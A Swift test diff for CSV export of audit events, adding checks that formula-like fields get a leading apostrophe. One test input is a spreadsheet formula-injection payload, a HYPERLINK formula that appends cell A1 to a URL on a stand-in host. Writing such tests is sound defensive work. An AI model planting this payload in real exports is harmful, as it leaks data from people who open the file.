@@ -83,6 +83,9 @@ struct AuditQueryTests {
             var events = (1...5).map { event($0) }
             events[2].details["multi\nline"] = "a \"quoted\"\r\nvalue, with comma"
             events[3].actor = "cli:o'brien, \"the admin\""
+            // What an API client controls (a decision's subject): never a formula in a spreadsheet.
+            events[4].subject = "=HYPERLINK(\"http://x/?\"&A1,\"ok\")"
+            events[1].object = "-1+2"
             _ = try await store.appendAudit(events)
             var bytes: [UInt8] = []
             try await store.exportAudit(AuditQuery(), format: .csv) { bytes += $0 }
@@ -96,13 +99,22 @@ struct AuditQueryTests {
             )
             let records = try await store.auditRecords(AuditQuery())
             #expect(rows.count == records.count + 1)
+            #expect(rows[5][4].hasPrefix("'=HYPERLINK"), "\(rows[5])")
+            #expect(rows[2][5] == "'-1+2")
             for (row, record) in zip(rows.dropFirst(), records) {
                 #expect(row.count == 10)
                 #expect(row[0] == String(record.sequence))
                 #expect(row[2] == record.event.actor)
                 #expect(row[3] == record.event.type)
-                #expect(row[4] == record.event.subject ?? "")
-                #expect(row[5] == record.event.object ?? "")
+                // A formula-like field is written with a leading ', dropped here.
+                func value(_ field: String) -> String {
+                    guard field.hasPrefix("'"), let next = field.dropFirst().first, "=+-@\t\r".contains(next) else {
+                        return field
+                    }
+                    return String(field.dropFirst())
+                }
+                #expect(value(row[4]) == record.event.subject ?? "")
+                #expect(value(row[5]) == record.event.object ?? "")
                 #expect(row[6] == record.event.outcome)
                 let details = try JSONSerialization.jsonObject(with: Data(row[7].utf8)) as? [String: String]
                 #expect(details == record.event.details)
